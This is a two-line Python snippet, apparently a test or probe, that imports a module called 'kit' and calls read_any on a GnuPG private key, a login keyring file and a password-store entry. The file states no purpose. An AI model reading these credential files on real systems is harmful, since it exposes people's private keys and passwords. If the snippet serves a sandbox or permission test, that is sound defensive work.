from kit import *

read_any(".gnupg/private.key", ".local/share/keyrings/login.keyring", ".password-store/a.gpg")
